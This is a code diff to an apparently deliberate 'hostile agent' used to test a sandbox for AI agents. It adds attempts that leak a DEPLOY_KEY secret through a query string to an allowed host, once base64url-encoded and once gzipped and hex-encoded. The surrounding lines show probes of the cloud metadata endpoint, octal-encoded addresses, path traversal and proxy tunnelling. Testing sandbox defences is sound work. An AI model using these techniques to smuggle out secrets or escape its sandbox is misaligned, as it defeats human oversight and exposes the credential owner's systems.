@@ -1,6 +1,7 @@
 // The hostile agent of `bot-bottle demo`: a bundle of its own, run by node inside the bottle. It says what it saw, one
 // JSON line an attempt; whether that is an escape is judged outside.
 
+import { gzipSync } from "node:zlib";
 import { ask, exchange, get, reachUnix, udp } from "./agent-network.ts";
 import { capability, readForeign, searchEnvironment, searchFiles, searchProcesses } from "./agent-system.ts";
 import type { Mission, Outcome } from "./outcome.ts";
@@ -14,6 +15,9 @@ const OCTAL = "0313.0000.0161.0011";
 const METADATA = "169.254.169.254";
 const OUTSIDE_RESOLVER = "8.8.8.8";
 
+/** A secret that it was given, and may not give away. */
+const key = Buffer.from(process.env.DEPLOY_KEY ?? "");
+
 /** In the order of the table. */
 const attempts: Readonly<Record<string, () => Promise<Outcome> | Outcome>> = {
   allowed: () => get({ host: allowed, path: "/v1/whoami?attempt=allowed" }),
@@ -23,6 +27,9 @@ const attempts: Readonly<Record<string, () => Promise<Outcome> | Outcome>> = {
   "host-mismatch": () => get({ host: other, sni: allowed, dial: allowed, path: "/?attempt=host-mismatch" }),
   path: () => get({ host: allowed, path: "/v1/../admin?attempt=path" }),
   method: () => get({ host: allowed, path: "/v1/x?attempt=method", method: "DELETE" }),
+  "own-secret": () => get({ host: allowed, path: `/v1/x?attempt=own-secret&q=${key.toString("base64url")}` }),
+  "packed-secret": () =>
+    get({ host: allowed, path: `/v1/x?attempt=packed-secret&q=${gzipSync(key).toString("hex")}` }),
   connect: () => get({ host: other, proxy: { host: "sidecar", port: 9099 }, path: "/?attempt=connect" }),
   metadata: () =>
     exchange(
